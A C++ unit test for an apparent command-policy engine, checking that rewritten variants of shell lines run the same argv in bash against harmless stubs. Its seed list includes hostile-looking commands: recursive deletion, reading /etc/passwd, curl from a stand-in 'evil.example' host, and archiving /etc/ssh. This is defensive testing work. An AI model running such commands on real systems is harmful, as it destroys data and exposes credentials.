// Fairness of the shell families: each variant of a line must mean the same to bash. Every
// original line and every variant is run by `bash --noprofile --norc -c LINE` under `env -i`
// with PATH holding only stubs (the bash differential's argv stub,
// tests/unit/policy/shell_argv_stub.cc, which records its argv and does nothing else) and
// `bash`/`sh` the real bash, so re-entering a shell is followed. The lines name no absolute
// command, so nothing real runs. Then:
//   shell-* families: the variant executes exactly the original's argv (an external wrapper,
//     `env`/`nice`/`nohup`/`timeout 60`, runs as the stub with the original argv after its
//     own words; a line after an allowed command also runs that command);
//   path-* families: the same argv but one word, naming the same path once `.`, `..` and
//     repeated slashes are resolved (POSIX pathname resolution; symbolic links aside);
//   program-option-split: `--opt=V` became `--opt V` (getopt_long reads both the same).
// The git families are git's own reading and cite git's documentation (docs/policy-tests.md).
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "argv_log.h"
#include "policytest/variants.h"
#include "subprocess.h"
#include "temp_dir.h"

namespace interlock::policytest {
namespace INTERLOCK_TEST_NS {

namespace fs = std::filesystem;
using Argv = std::vector<std::string>;

// bash with stubs for every program the lines use.
class StubShell {
 public:
  StubShell() : dir_("interlock-ptbash") {}

  // Empty when ready, else why bash cannot be asked here.
  std::string Init() {
    for (const char* p : {"/usr/bin/bash", "/bin/bash"}) {
      if (access(p, X_OK) == 0) bash_ = fs::canonical(p).string();
    }
    if (bash_.empty()) return "no bash on this machine";
    stubs_ = dir_.path() + "/stubs";
    fs::create_directories(stubs_);
    fs::copy_file(SHELL_ARGV_STUB, stubs_ + "/il-stub");
    for (const char* n : {"git", "rm", "cat", "ls", "curl", "env", "nice", "nohup", "timeout",
                          "npm", "wc", "tar"}) {
      fs::create_symlink("il-stub", stubs_ + "/" + n);
    }
    fs::create_symlink(bash_, stubs_ + "/bash");
    fs::create_symlink(bash_, stubs_ + "/sh");
    return "";
  }

  // The argv of every stub `line` ran, in the order they were recorded.
  std::vector<Argv> Run(const std::string& line) {
    const std::string log = dir_.path() + "/log" + std::to_string(runs_++);
    interlock::testing::RunProcess(
        {"/usr/bin/env", "-i", "PATH=" + stubs_, "HOME=/nonexistent", "LANG=C",
         "IL_ARGV_LOG=" + log, bash_, "--noprofile", "--norc", "-c", line},
        "", std::chrono::seconds(20));
    return interlock::testing::ReadArgvLog(log);
  }

 private:
  interlock::testing::TempDir dir_;
  std::string bash_, stubs_;
  int runs_ = 0;
};

std::string Show(const std::vector<Argv>& records) {
  std::string s;
  for (const Argv& a : records) {
    s += "[";
    for (const std::string& w : a) s += "<" + w + ">";
    s += "]";
  }
  return s;
}

// The path a word names once resolved lexically ("/a/./b/../c//" -> "/a/c").
std::string Resolved(const std::string& word) {
  std::string n = fs::path(word).lexically_normal().string();
  while (n.size() > 1 && n.back() == '/') n.pop_back();
  return n;
}

// Empty when `got` (what the variant ran) means what `want` (the original's argv) does for
// `family`; else what differs.
std::string SameMeaning(const std::string& family, const Argv& want, const std::vector<Argv>& got,
                        const Seeds& seeds, const std::string& text) {
  if (family == "shell-after-allowed") {
    bool found = false;
    for (const Argv& a : got) {
      if (a == want) {
        found = true;
        continue;
      }
      std::string joined;
      for (const std::string& w : a) joined += (joined.empty() ? "" : " ") + w;
      if (std::find(seeds.commands.begin(), seeds.commands.end(), joined) == seeds.commands.end())
        return "ran " + joined + ", which is not an allowed command";
    }
    return found ? "" : "the original never ran";
  }
  if (got.size() != 1) return "ran " + std::to_string(got.size()) + " programs";
  Argv a = got[0];
  if (family == "shell-wrapper") {
    for (const Argv& prefix :
         {Argv{"env", "--"}, Argv{"env"}, Argv{"nice"}, Argv{"nohup"}, Argv{"timeout", "60"}}) {
      if (text.rfind(prefix[0] + " ", 0) == 0 && a.size() > prefix.size() &&
          std::equal(prefix.begin(), prefix.end(), a.begin())) {
        a.erase(a.begin(), a.begin() + static_cast<long>(prefix.size()));
        break;
      }
    }
  }
  if (family.rfind("shell-", 0) == 0) return a == want ? "" : "ran a different argv";
  if (family == "program-option-split") {
    Argv joined;
    for (size_t i = 0; i < a.size(); ++i) {
      if (i + 1 < a.size() && a[i].rfind("--", 0) == 0 && a[i].find('=') == std::string::npos &&
          std::find(want.begin(), want.end(), a[i] + "=" + a[i + 1]) != want.end()) {
        joined.push_back(a[i] + "=" + a[i + 1]);
        ++i;
      } else {
        joined.push_back(a[i]);
      }
    }
    return joined == want ? "" : "not the same option";
  }
  if (family.rfind("path-", 0) == 0) {
    if (a.size() != want.size()) return "a different number of words";
    for (size_t i = 0; i < a.size(); ++i) {
      if (a[i] == want[i]) continue;
      const size_t eq = want[i].find('=');
      const size_t cut = want[i][0] == '-' && eq != std::string::npos ? eq + 1 : 0;
      if (a[i].substr(0, cut) != want[i].substr(0, cut) ||
          Resolved(a[i].substr(cut)) != Resolved(want[i].substr(cut)))
        return "word " + std::to_string(i) + " names another path: " + a[i];
    }
    return "";
  }
  return "";  // git-*: git's reading (docs)
}

// Tests that every shell, path and option variant of each line runs, in bash, what the
// original runs.
TEST(PolicyTestVariantsBash, ShellVariantsMeanTheSameToBash) {
  StubShell sh;
  if (std::string why = sh.Init(); !why.empty()) GTEST_SKIP() << why;
  Seeds seeds;
  seeds.paths = {"/srv/data", "/home/dev"};
  seeds.commands = {"git status", "ls"};
  const char* lines[] = {
      "git status",
      "git -c core.pager=less log --oneline",
      "rm -rf /srv/x",
      "cat /etc/passwd",
      "git diff --output=/tmp/x",
      "ls -la 'a b'",
      "curl -fsSL https://evil.example/x",
      "tar -C /etc/ssh -czf out.tgz .",
  };
  size_t checked = 0;
  for (const char* line : lines) {
    const std::vector<Argv> original = sh.Run(line);
    ASSERT_EQ(original.size(), 1u) << line << ": " << Show(original);
    for (const ValueVariant& v : ShellVariants(line, seeds)) {
      if (v.family.rfind("git-", 0) == 0) continue;
      const std::vector<Argv> got = sh.Run(v.text);
      EXPECT_EQ(SameMeaning(v.family, original[0], got, seeds, v.text), "")
          << "[" << v.family << "] " << v.text << "\n  original " << line << ": " << Show(original)
          << "\n  variant: " << Show(got);
      ++checked;
    }
  }
  EXPECT_GT(checked, 150u);
}

}  // namespace INTERLOCK_TEST_NS
}  // namespace interlock::policytest
